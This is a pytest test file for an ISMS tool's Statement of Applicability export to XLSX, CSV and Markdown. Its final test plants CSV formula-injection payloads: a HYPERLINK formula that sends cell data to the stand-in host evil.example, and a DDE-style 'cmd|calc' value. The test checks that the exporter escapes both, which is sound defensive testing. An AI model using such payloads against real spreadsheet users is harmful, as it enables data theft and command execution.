"""`isms soa` on a real git repository: reproducible workbook, CSV with BOM, Markdown."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from helpers import RunIsms, commit_all, demo_files, git, write_repo

TODAY = "2026-03-01"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = write_repo(tmp_path / "repo", demo_files())
    git(root, "init", "-q", "-b", "main")
    commit_all(root, "Initial ISMS", "2026-02-01T09:00:00+09:00")
    return root


def test_workbook_is_byte_identical_on_two_runs(repo: Path, tmp_path: Path, run_isms: RunIsms) -> None:
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    for path in (first, second):
        result = run_isms("soa", "--root", str(repo), "--today", TODAY, "--out", str(path))
        assert (result.code, result.out) == (0, f"wrote {path} (as of {TODAY})\n")
    assert first.read_bytes() == second.read_bytes()
    head = git(repo, "rev-parse", "HEAD").strip()
    sheet = openpyxl.load_workbook(first).worksheets[0]
    assert sheet["B5"].value == head


def test_default_workbook_name(repo: Path, run_isms: RunIsms, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(repo)
    assert run_isms("soa", "--today", TODAY).code == 0
    assert (repo / "soa.xlsx").read_bytes()[:2] == b"PK"


def test_csv_to_stdout_starts_with_the_bom(repo: Path, run_isms: RunIsms) -> None:
    result = run_isms("soa", "--root", str(repo), "--today", TODAY, "--format", "csv", "--lang", "en")
    assert result.code == 0
    assert result.out.startswith("\ufeffOrganisation,Demo Inc.\r\n")


def test_csv_file_is_utf8_with_bom(repo: Path, tmp_path: Path, run_isms: RunIsms) -> None:
    path = tmp_path / "soa.csv"
    assert run_isms("soa", "--root", str(repo), "--format", "csv", "--out", str(path)).code == 0
    assert path.read_bytes().startswith(b"\xef\xbb\xbf" + "組織".encode())


def test_markdown(repo: Path, run_isms: RunIsms) -> None:
    result = run_isms("soa", "--root", str(repo), "--today", TODAY, "--format", "md")
    assert result.code == 0
    assert result.out.startswith("# 適用宣言書: デモ基準\n")
    assert "| DM-3 | 物理的入退管理 |  | × |" in result.out


def test_workbook_cannot_go_to_stdout(repo: Path, run_isms: RunIsms) -> None:
    result = run_isms("soa", "--root", str(repo), "--out", "-")
    assert result.code == 2
    assert result.err == "isms: error: --out -: a workbook is binary; write it to a file (e.g. --out soa.xlsx)\n"


def test_not_a_repository(tmp_path: Path, run_isms: RunIsms) -> None:
    assert run_isms("soa", "--root", str(tmp_path), "--format", "csv").code == 2


def test_csv_cells_cannot_be_formulas(tmp_path: Path, run_isms: RunIsms) -> None:
    files = demo_files()
    files["controls/demo/DM-1.yaml"] = (
        "status: implemented\nowner: ciso\nreasons: [risk]\n"
        'implementation: \'=HYPERLINK("https://evil.example/?"&A1,"click")\'\n'
        "review: {last: 2026-01-15, interval: 1y}\nevidence:\n  - access/review-2026-q1.csv\n"
    )
    files["controls/demo/DM-3.yaml"] = "status: not-applicable\nowner: ciso\njustification: '＠SUM(1+1)*cmd|calc'\n"
    root = write_repo(tmp_path / "repo", files)
    result = run_isms("soa", "--root", str(root), "--today", TODAY, "--format", "csv", "--lang", "en")
    assert result.code == 0, result.err
    cells = [cell for row in csv.reader(io.StringIO(result.out.lstrip("\ufeff"), newline="")) for cell in row]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"click")' in cells
    assert "'＠SUM(1+1)*cmd|calc" in cells
    assert all(not cell or cell[0] not in "=+-@\t\r＝＋－＠" for cell in cells)
